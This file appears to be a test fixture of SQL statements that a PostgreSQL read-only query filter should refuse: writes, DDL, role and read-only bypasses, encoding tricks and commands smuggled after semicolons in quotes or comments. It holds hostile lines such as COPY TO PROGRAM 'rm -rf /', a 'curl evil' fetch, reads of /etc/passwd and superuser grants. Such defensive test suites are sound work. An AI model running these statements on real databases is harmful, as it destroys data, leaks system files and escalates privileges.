INSERT INTO t VALUES (1)
-- ----
insert/**/into t values (1)
-- ----
InSeRt InTo "T" VALUES (1)
-- ----
UPDATE t SET a = 1
-- ----
update t set a = a + 1 where a in (select a from t)
-- ----
DELETE FROM t
-- ----
delete from "t" where true
-- ----
MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE
-- ----
TRUNCATE t
-- ----
truncate table only t restart identity cascade
-- ----
WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x
-- ----
with x as (delete from t returning *) select count(*) from x
-- ----
WITH a AS (SELECT 1), b AS (UPDATE t SET a = 2 RETURNING a) SELECT * FROM a, b
-- ----
select * from t where a in (with d as (delete from t returning a) select a from d)
-- ----
WITH RECURSIVE r AS (SELECT 1) , w AS (MERGE INTO t USING u ON true WHEN NOT MATCHED THEN INSERT VALUES (1)) SELECT 1
-- ----
SELECT * INTO t2 FROM t
-- ----
select 1 as a into temp tt
-- ----
CREATE TABLE t3 AS SELECT 1
-- ----
create materialized view mv as select 1
-- ----
SELECT * FROM t FOR UPDATE
-- ----
select * from t for share
-- ----
select * from t for no key update skip locked
-- ----
select * from t for key share nowait
-- ----
select * from (select * from t for update) s
-- ----
SELECT nextval('s')
-- ----
select setval('s', 42)
-- ----
SELECT pg_catalog.nextval('s')
-- ----
select * from nextval('s')
-- ----
select a from t where a = nextval('s')
-- ----
select count(*) filter (where nextval('s') > 0) from t
-- ----
select lower(x) from (select nextval('s')::text as x) s
-- ----
SELECT lo_import('/etc/passwd')
-- ----
select lo_export(1234, '/tmp/x')
-- ----
select lo_create(0)
-- ----
select lo_unlink(1234)
-- ----
select lowrite(lo_open(1234, 131072), 'x')
-- ----
select lo_from_bytea(0, 'x')
-- ----
select lo_put(1234, 0, 'x')
-- ----
SELECT pg_notify('chan', 'x')
-- ----
select pg_terminate_backend(1234)
-- ----
select pg_cancel_backend(pg_backend_pid())
-- ----
SELECT pg_reload_conf()
-- ----
select pg_rotate_logfile()
-- ----
select pg_switch_wal()
-- ----
select pg_create_restore_point('x')
-- ----
select pg_logical_emit_message(true, 'x', 'y')
-- ----
select pg_create_logical_replication_slot('s', 'pgoutput')
-- ----
select pg_drop_replication_slot('s')
-- ----
select pg_file_write('/tmp/x', 'x', false)
-- ----
select pg_read_file('/etc/passwd')
-- ----
select pg_read_binary_file('/etc/passwd')
-- ----
select pg_ls_dir('.')
-- ----
select dblink_exec('dbname=postgres', 'drop table t')
-- ----
select * from dblink('dbname=postgres', 'delete from t returning 1') as x(a int)
-- ----
select pg_stat_reset()
-- ----
select pg_promote()
-- ----
select pg_wal_replay_pause()
-- ----
select txid_current()
-- ----
select pg_current_xact_id()
-- ----
SELECT set_config('default_transaction_read_only', 'off', false)
-- ----
select set_config('transaction_read_only', 'off', true)
-- ----
select set_config('ROLE', 'postgres', false)
-- ----
select set_config('session_authorization', 'postgres', false)
-- ----
select set_config(lower('ROLE'), 'postgres', false)
-- ----
select pg_catalog.set_config('session_replication_role', 'replica', false)
-- ----
select public.lower('x')
-- ----
select myschema.harmless()
-- ----
select "NEXTVAL"('s')
-- ----
select my_writer_function()
-- ----
select * from t where a = (select max(a) from t where my_writer(a))
-- ----
select query_to_xml('delete from t returning 1', true, true, '')
-- ----
SELECT 'a;b'; DELETE FROM t
-- ----
select $$;$$; drop table t
-- ----
select $tag$ ; insert $tag$ ; insert into t values (1)
-- ----
select E'\';'; update t set a = 1
-- ----
select 1 /* ; */ ; truncate t
-- ----
select 1 -- ;
; delete from t
-- ----
select U&"\0061" from t; delete from t
-- ----
DELETE FROM U&"\0074"
-- ----
select 1; select 2; insert into t values (3)
-- ----
EXPLAIN ANALYZE INSERT INTO t VALUES (1)
-- ----
explain (analyze, buffers) delete from t
-- ----
explain (analyze true) update t set a = 1
-- ----
explain (analyze on, format json) with x as (delete from t returning 1) select * from x
-- ----
explain select nextval('s')
-- ----
PREPARE p AS INSERT INTO t VALUES ($1)
-- ----
prepare q(int) as delete from t where a = $1
-- ----
prepare r as select * from t for update
-- ----
declare c cursor for select * from t for update
-- ----
declare c2 cursor for select nextval('s')
-- ----
COPY t FROM STDIN
-- ----
copy t from '/tmp/data.csv'
-- ----
COPY t TO '/tmp/out.csv'
-- ----
copy (select 1) to program 'rm -rf /'
-- ----
copy t from program 'curl evil'
-- ----
copy (select nextval('s')) to stdout
-- ----
copy (with x as (delete from t returning *) select * from x) to stdout
-- ----
SET ROLE postgres
-- ----
set role to "postgres"
-- ----
SET SESSION AUTHORIZATION postgres
-- ----
set local role postgres
-- ----
SET default_transaction_read_only = off
-- ----
set DEFAULT_TRANSACTION_READ_ONLY to false
-- ----
set transaction_read_only = off
-- ----
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
-- ----
SET TRANSACTION READ WRITE
-- ----
set transaction isolation level serializable, read write
-- ----
RESET ALL
-- ----
reset role
-- ----
reset session authorization
-- ----
reset default_transaction_read_only
-- ----
set session_replication_role = replica
-- ----
BEGIN READ WRITE
-- ----
begin isolation level read committed read write
-- ----
START TRANSACTION READ WRITE
-- ----
DISCARD ALL
-- ----
DO $$BEGIN DELETE FROM t; END$$
-- ----
do language plpgsql 'begin null; end'
-- ----
CALL p()
-- ----
VACUUM
-- ----
vacuum full t
-- ----
ANALYZE t
-- ----
CLUSTER t USING t_pkey
-- ----
REINDEX TABLE t
-- ----
REFRESH MATERIALIZED VIEW mv
-- ----
CHECKPOINT
-- ----
LOCK TABLE t
-- ----
lock table t in share mode
-- ----
lock t in row exclusive mode nowait
-- ----
ALTER SYSTEM SET work_mem = '1GB'
-- ----
alter system reset all
-- ----
NOTIFY chan, 'x'
-- ----
PREPARE TRANSACTION 'x'
-- ----
COMMIT PREPARED 'x'
-- ----
ROLLBACK PREPARED 'x'
-- ----
GRANT SELECT ON t TO public
-- ----
revoke all on t from public
-- ----
grant admin to reader
-- ----
COMMENT ON TABLE t IS 'x'
-- ----
SECURITY LABEL ON TABLE t IS 'x'
-- ----
CREATE TABLE x (a int DEFAULT nextval('s'))
-- ----
create temp table x (a int)
-- ----
create index on t (a)
-- ----
create view v2 as select 1
-- ----
create or replace function f() returns int language sql as 'select 1'
-- ----
create procedure p() language sql as 'select 1'
-- ----
create schema s2
-- ----
create sequence s2
-- ----
create extension dblink
-- ----
create role r2
-- ----
create user u2 password 'x'
-- ----
create database d2
-- ----
create trigger tr before insert on t for each row execute function f()
-- ----
create rule r as on select to t do instead select 1
-- ----
create type ty as enum ('a')
-- ----
create domain dm as int
-- ----
create aggregate ag(int) (sfunc = int4pl, stype = int)
-- ----
create policy pol on t using (true)
-- ----
create publication pub for all tables
-- ----
create event trigger et on ddl_command_start execute function f()
-- ----
create statistics st on a, b from t
-- ----
ALTER TABLE t ADD COLUMN b int
-- ----
alter table t alter column a set default nextval('s')
-- ----
alter role reader superuser
-- ----
alter role reader set default_transaction_read_only = off
-- ----
alter database postgres set default_transaction_read_only = off
-- ----
alter user reader password 'x'
-- ----
alter view v rename to v3
-- ----
alter table t owner to reader
-- ----
alter table t set schema s2
-- ----
alter function f() security definer
-- ----
alter default privileges grant all on tables to public
-- ----
DROP TABLE t
-- ----
drop table if exists t cascade
-- ----
drop view v
-- ----
drop function f()
-- ----
drop role reader
-- ----
drop database d2
-- ----
drop owned by reader
-- ----
reassign owned by reader to postgres
-- ----
LOAD 'auto_explain'
-- ----
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
-- ----
selec 1
-- ----
SELECT * FORM t
-- ----
select 'unterminated
-- ----
select 1; delet from t
-- ----
execute q(nextval('s'))
-- ----
with x as (select * from t for update) select * from x
-- ----
select * from t, lateral (select * from t for share) s
-- ----
select * from rows from (generate_series(1, 2), nextval('s')) r
-- ----
select (select setval('s', 1)) as x
-- ----
select case when a > 0 then pg_terminate_backend(a) end from t
-- ----
select * from t order by pg_cancel_backend(a)
-- ----
select * from t group by a having pg_reload_conf()
-- ----
select json_agg(t) from t where a = any(array[nextval('s')])
-- ----
select set_config($1, 'x', false)
-- ----
values (nextval('s'))
-- ----
SET SESSION AUTHORIZATION DEFAULT
-- ----
set role none
-- ----
sElEcT/**/pG_tErMiNaTe_BaCkEnD(1)
-- ----
select "pg_catalog"."nextval"('s')
-- ----
select pg_catalog."setval"('s', 1)
-- ----
explain (analyze) select * from t for update
-- ----
select 1; select 2; set role postgres
-- ----
set search_path = evil, pg_catalog
-- ----
SET search_path TO "evil", "pg_catalog", public
-- ----
select set_config('search_path', 'evil, pg_catalog', false)
-- ----
select set_config('search_path', current_setting('x'), false)
-- ----
select 1 OPERATOR(evil.+) 2
-- ----
select * from t where a operator(public.=) 1
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind' OR name = 'default_transaction_read_only'
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'default_transaction_read_only'
-- ----
SELECT pg_catalog.set_config(name, 'off', false) FROM pg_catalog.pg_settings WHERE 'transaction_read_only' = name
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'work_mem' AND name = 'default_transaction_read_only'
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings, pg_roles WHERE name = 'work_mem'
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings JOIN pg_roles r ON true WHERE name = 'work_mem'
-- ----
SELECT set_config(x.name, 'off', false) FROM pg_settings s, (SELECT 'default_transaction_read_only'::text AS name) x WHERE s.name = 'work_mem'
-- ----
SELECT set_config(name, 'off', false) FROM t WHERE name = 'work_mem'
-- ----
SELECT set_config(name, 'off', false) FROM public.pg_settings WHERE name = 'work_mem'
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name LIKE 'default_transaction_read_onl%'
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings WHERE NOT name = 'work_mem'
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'work_mem' COLLATE "C"
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings AS s(setting, name) WHERE name = 'work_mem'
-- ----
WITH pg_settings AS (SELECT 'default_transaction_read_only'::text AS name) SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'work_mem'
-- ----
SELECT (SELECT set_config(name, 'off', false)) FROM pg_settings WHERE name = 'work_mem'
-- ----
SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'work_mem' UNION ALL SELECT set_config(name, 'off', false) FROM pg_settings WHERE name = 'default_transaction_read_only'
-- ----
SELECT set_config(name, 'evil, pg_catalog', false) FROM pg_settings WHERE name = 'search_path'
-- ----
SELECT set_config(name, 'SJIS', false) FROM pg_settings WHERE name = 'client_encoding'
-- ----
SELECT set_config(lower(name), 'off', false) FROM pg_settings WHERE name = 'work_mem'
-- ----
SET client_encoding = 'SJIS'
-- ----
SET NAMES 'LATIN1'
-- ----
set client_encoding to 'EUC_JP'
-- ----
set client_encoding = 'euc-kr'
-- ----
select set_config('client_encoding', 'WIN1252', false)
-- ----
SET client_encoding TO sjis
-- ----
set names 'big5'
-- ----
SET NAMES 'Shift_JIS'
-- ----
set client_encoding = 'WINDOWS-932'
-- ----
SET SESSION client_encoding = 'gbk'
-- ----
SET LOCAL client_encoding TO 'UHC'
-- ----
set client_encoding = 'gb18030'
-- ----
set client_encoding = 'JOHAB'
-- ----
set client_encoding = 'SHIFT_JIS_2004'
-- ----
set client_encoding = 'MS-Kanji'
-- ----
set client_encoding = 'win950'
-- ----
set client_encoding = 'Windows_936'
-- ----
set client_encoding = 'win949'
-- ----
set client_encoding = 'Big 5'
-- ----
select 1; set client_encoding = 'sjis'
-- ----
select set_config('client_encoding', 'sjis', false)
-- ----
select pg_catalog.set_config('CLIENT_ENCODING', 'win932', true)
-- ----
select set_config('client_encoding', current_setting('x'), false)
-- ----
-- Issue 9.4: what stays refused next to the readers now allowed.
select lowrite(lo_open(1234, 393216), 'x')
-- ----
select lowrite(lo_open(1234, (select 131072)), 'x')
-- ----
select lowrite(lo_open(1234, 131072 + 0), 'x')
-- ----
select lowrite(lo_open(1234, 131072::int), 'x')
-- ----
select lowrite(lo_open(1234, -1), 'x')
-- ----
select query_to_xml('insert into t values (9) returning 1', true, true, '')
-- ----
select txid_current()
-- ----
select pg_current_xact_id()
-- ----
select pg_advisory_lock(42)
-- ----
select pg_sleep(0)
-- ----
SET default_transaction_read_only = off
-- ----
SET default_transaction_read_only = 'of'
-- ----
SET default_transaction_read_only = on, off
-- ----
SET transaction_read_only = 0
-- ----
SET transaction_read_only TO DEFAULT
-- ----
select set_config('default_transaction_read_only', 'on '::text, false)
-- ----
select set_config('default_transaction_read_only', 'onx'::char(2), false)
-- ----
select set_config('transaction_read_only', 'false', true)
-- ----
select set_config('search_path', E'evil,\tpg_catalog', false)
-- ----
select set_config('search_path', 'evil, pg_catalogue'::varchar(16), false)
-- ----
select set_config('rolex'::char(4), 'postgres', false)
-- ----
SET standard_conforming_strings = off
-- ----
select pg_catalog.set_config('standard_conforming_strings', 'off', false)
-- ----
set session standard_conforming_strings to default
-- ----
SELECT 1; COMMIT; SELECT 2
-- ----
begin; select 1; end; begin read only; select 2
-- ----
EXPLAIN INSERT INTO t VALUES (1)
-- ----
explain (analyze false) delete from t
-- ----
EXPLAIN (COSTS OFF) UPDATE t SET a = 1
-- ----
select domain_in('2', 'd'::regtype, -1)
-- ----
select pg_catalog.record_in('(1)', 16385, -1)
-- ----
select array_in('{1}', 16390, -1)
-- ----
EXPLAIN WITH w AS (INSERT INTO t DEFAULT VALUES RETURNING *) SELECT * FROM w
-- ----
explain select * from (select 1) s where exists (with d as (delete from t returning 1) select 1 from d)
